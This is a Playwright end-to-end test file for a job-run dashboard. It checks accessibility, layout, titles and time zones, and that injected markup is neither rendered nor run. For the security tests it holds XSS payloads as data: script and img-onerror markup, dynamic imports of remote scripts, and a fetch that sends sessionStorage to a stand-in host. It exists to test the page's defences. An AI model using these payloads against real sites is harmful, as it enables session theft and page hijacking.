"""How the dashboard looks, to all who look at it, and that nothing can be slipped into it."""

import re
from collections.abc import Callable, Sequence
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.conftest import TIME_ZONE
from tests.support.axe import COLOUR_RULES, violations
from tests.support.browser import PATIENCE_MS, fits, sign_in
from tests.support.client import Api

EVIL = '<img src=x onerror="window.evil=1"><script>window.evil=1</script>'
FAILS = {
    "overrides": {"job6": {"--SIMULATE": f"fail: {EVIL}"}},
    "only": ["job6"],
    "reason": EVIL,
}

Opened = Callable[[Page], None]


@pytest.fixture(scope="module")
def failed(served: Api) -> str:
    name: str = served.run(FAILS)["name"]
    return name


def opened(page: Page, place: str, name: str, url: str) -> None:
    """Open a view and wait until it is whole."""
    page.goto(f"{url}/#/{place.format(name=name)}")
    whole = {
        "start": "form details",
        "start?like={name}": "form details",
        "schedule": ".next-runs",
        "": ".run",
    }
    expect(page.locator(whole.get(place, ".planned, .gantt")).first).to_be_visible()


VIEWS = [
    "",
    "start",
    "start?like={name}",
    "schedule",
    "runs/{name}",
    "runs/{name}?step=job6",
    "runs/{name}/resume",
]


@pytest.mark.parametrize(
    ("scheme", "rules"), [("light", ()), ("dark", COLOUR_RULES)], ids=["light", "dark"]
)
def test_axe_finds_nothing_on_any_view_in_this_scheme(
    page: Page, served: Api, failed: str, scheme: str, rules: Sequence[str]
) -> None:
    page.emulate_media(
        color_scheme="dark" if scheme == "dark" else "light", reduced_motion="reduce"
    )
    page.goto(served.url)
    expect(page.get_by_label("Access token")).to_be_visible()
    assert violations(page, rules) == []
    sign_in(page, served.url)
    for place in VIEWS:
        opened(page, place, failed, served.url)
        assert violations(page, rules) == [], place
    page.keyboard.press("?")
    expect(page.get_by_role("dialog")).to_be_visible()
    assert violations(page, rules) == []
    page.keyboard.press("Escape")
    page.goto(f"{served.url}/#/start")
    page.get_by_label("Of a day").check()
    page.get_by_role("button", name="See the plan").click()
    expect(page.get_by_role("alert").first).to_be_visible()
    assert violations(page, rules) == []


def test_the_schemes_are_two(page: Page, served: Api) -> None:
    page.goto(served.url)
    grounds = []
    for scheme in ("light", "dark"):
        page.emulate_media(
            color_scheme="dark" if scheme == "dark" else "light", reduced_motion="reduce"
        )
        look = "getComputedStyle(document.documentElement).backgroundColor"
        grounds.append(page.evaluate(look))
    assert len(set(grounds)) == 2


@pytest.mark.parametrize("width", [360, 768, 2560])
def test_every_view_fits_the_window(page: Page, served: Api, failed: str, width: int) -> None:
    page.set_viewport_size({"width": width, "height": 740})
    sign_in(page, served.url)
    for place in VIEWS:
        opened(page, place, failed, served.url)
        assert fits(page), place


def test_markup_in_a_reason_or_of_glue_is_shown_as_text(
    page: Page, served: Api, failed: str
) -> None:
    sign_in(page, served.url)
    row = page.get_by_role("row").filter(has_text=failed)
    expect(row.locator("q")).to_contain_text(EVIL)
    expect(row.locator(".why")).to_contain_text(EVIL)
    opened(page, "runs/{name}?step=job6", failed, served.url)
    expect(page.locator("tr.full .message").first).to_contain_text(EVIL)
    expect(page.locator(".notice .message")).to_contain_text(EVIL)
    opened(page, "runs/{name}/resume", failed, served.url)
    expect(page.locator(".planned")).to_contain_text(EVIL)
    assert page.locator("img").count() == 0
    assert page.evaluate("window.evil") is None


@pytest.mark.parametrize(
    "attack",
    [
        # A script, a handler, a style and a frame of somebody else, as an injection would add them.
        "add('script', {textContent: 'window.evil = 1'})",
        "add('script', {src: 'data:text/javascript,window.evil=1'})",
        "add('script', {src: 'http://localhost:1/evil.js'})",
        "document.body.setAttribute('onclick', 'window.evil = 1'), document.body.click()",
        "document.body.innerHTML = '<img src=x onerror=\"window.evil=1\">'",
        "window.setTimeout('window.evil = 1')",
        "setTimeout(() => { try { window.evil = new Function('return 1')() } catch {} })",
        # Of these only `script-src` knows; the ones before are met by Trusted Types first.
        "import('data:text/javascript,window.evil=1')",
        "import('http://localhost:1/evil.js')",
        "add('iframe', {src: 'https://evil.example/'})",
        "add('base', {href: 'https://evil.example/'})",
        "fetch('http://localhost:1/?stolen=' + JSON.stringify(sessionStorage))",
        "add('style', {textContent: 'body { display: none }'})",
        "add('img', {src: 'http://localhost:1/?stolen'})",
    ],
)
def test_what_is_injected_is_not_run(tab: Page, served: Api, attack: str) -> None:
    tab.goto(served.url)
    expect(tab.get_by_label("Access token")).to_be_visible()
    broken = tab.evaluate(
        """async (attack) => {
          const add = (name, parts) =>
            document.head.append(Object.assign(document.createElement(name), parts));
          const seen = new Promise((resolve) => {
            document.addEventListener("securitypolicyviolation", (event) =>
              resolve(event.effectiveDirective));
            setTimeout(() => resolve(null), PATIENCE);
          });
          try { await ATTACK } catch (error) { window.refused = String(error) }
          return await seen;
        }""".replace("ATTACK", f"({attack})").replace("PATIENCE", str(PATIENCE_MS))
    )
    assert broken, "nothing kept it from being tried"
    if attack.startswith("import("):
        assert broken.startswith("script-src")
    assert tab.evaluate("window.evil") is None
    expect(tab.get_by_label("Access token")).to_be_visible()


def test_the_tab_tells_the_state(page: Page, served: Api, failed: str) -> None:
    sign_in(page, f"{served.url}/#/runs/{failed}")
    expect(page).to_have_title(re.compile(f"^dev · ✕ Failed job6 · {failed}"))
    icon = page.locator("link[rel=icon]")
    expect(icon).to_have_attribute("href", re.compile("^data:image/svg.*b91c1c"))


def test_times_are_told_in_both_zones(page: Page, served: Api, failed: str) -> None:
    sign_in(page, f"{served.url}/#/runs/{failed}")
    started = served.execution(failed)["started_at"]
    facts = page.locator(".facts").first
    expect(facts).to_contain_text(f"{started[:10]} {started[11:19]} UTC")
    there = datetime.fromisoformat(started).astimezone(ZoneInfo(TIME_ZONE))
    expect(facts.locator("time").first).to_contain_text(re.compile(rf"\b{there:%H:%M}"))
